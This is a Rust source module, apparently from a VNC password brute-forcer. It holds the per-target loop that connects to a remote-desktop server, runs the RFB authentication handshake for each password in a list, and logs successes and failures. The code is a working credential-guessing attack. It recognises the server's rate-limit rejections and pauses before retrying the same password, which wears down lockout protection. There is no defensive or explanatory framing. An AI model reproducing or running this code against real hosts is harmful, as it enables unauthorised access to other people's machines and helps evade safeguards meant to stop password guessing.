//! The per-target password loop run by each pool worker.

use std::time::Duration;

use log::info;
use tokio::net::TcpStream;
use tokio::time::timeout;

use crate::crypto::password::Password;
use crate::protocol::error::HandshakeError;
use crate::protocol::handshake::authenticate;
use crate::protocol::rfb::{AuthOutcome, REJECTION_MESSAGE_PREFIX};

#[derive(Debug, Clone)]
/// Knobs shared by the pool and every per-target session.
pub struct AttackSettings {
    pub parallel: usize,
    pub default_port: u16,
    pub dial_timeout: Duration,
    pub handshake_timeout: Duration,
    pub attempt_pause: Duration,
    pub rejection_pause: Duration,
    pub stop_on_success: bool,
    pub log_failures: bool,
}

/// Tries the password list against one target, one connection per attempt.
///
/// Returns when the list is exhausted, the target is unusable, or a
/// success ends the session under `stop_on_success`. Rate-limit rejections
/// pause and retry the same password; they are never a verdict on it.
pub async fn attack_host(target: &str, passwords: &[Password], settings: &AttackSettings) {
    let mut next = 0;
    let mut current: Option<&Password> = None;

    loop {
        let pass = match current.take() {
            Some(pass) => pass,
            None => {
                let Some(pass) = passwords.get(next) else {
                    info!("[{}] No more passwords", target);
                    return;
                };
                next += 1;
                pass
            }
        };

        let mut stream = match timeout(settings.dial_timeout, TcpStream::connect(target)).await {
            Ok(Ok(stream)) => stream,
            Ok(Err(e)) => {
                info!("[{}] Connection failed: {}", target, e);
                return;
            }
            Err(_) => {
                info!(
                    "[{}] Connection failed: timed out after {:?}",
                    target, settings.dial_timeout
                );
                return;
            }
        };

        let outcome = match timeout(
            settings.handshake_timeout,
            authenticate(&mut stream, pass.cipher()),
        )
        .await
        {
            Ok(outcome) => outcome,
            Err(_) => {
                // Dropping the stream closes the half-done exchange.
                info!(
                    "[{}] Handshake timeout after {:?}",
                    target, settings.handshake_timeout
                );
                return;
            }
        };

        if is_rejection(&outcome) {
            info!(
                "[{}] Rejected connection while attempting {:?}, sleeping {:?}",
                target,
                pass.text(),
                settings.rejection_pause
            );
            tokio::time::sleep(settings.rejection_pause).await;
            current = Some(pass);
            continue;
        }

        match outcome {
            Ok(AuthOutcome::Accepted) => {
                info!("[{}] Success: {:?}", target, pass.text());
                if settings.stop_on_success {
                    return;
                }
                tokio::time::sleep(settings.attempt_pause).await;
            }
            Ok(AuthOutcome::NoAuthNeeded) => {
                info!("[{}] Success: no authentication required", target);
                return;
            }
            Ok(AuthOutcome::BadPassword { reason }) => {
                if settings.log_failures {
                    if reason.is_empty() {
                        info!("[{}] Fail: {:?}", target, pass.text());
                    } else {
                        info!("[{}] Fail: {:?} ({:?})", target, pass.text(), reason);
                    }
                }
                tokio::time::sleep(settings.attempt_pause).await;
            }
            Err(HandshakeError::NoSecurityTypes { reason }) => {
                info!("[{}] Handshake failure: {:?}", target, reason);
                return;
            }
            Err(e) => {
                info!("[{}] Error: {}", target, e);
                return;
            }
        }
    }
}

/// Rate limiting arrives as a reason string through either the failed-auth
/// path or the empty security type list, depending on when the server cut
/// us off.
fn is_rejection(outcome: &Result<AuthOutcome, HandshakeError>) -> bool {
    let reason = match outcome {
        Ok(AuthOutcome::BadPassword { reason }) => reason,
        Err(HandshakeError::NoSecurityTypes { reason }) => reason,
        _ => return false,
    };
    reason.starts_with(REJECTION_MESSAGE_PREFIX)
}
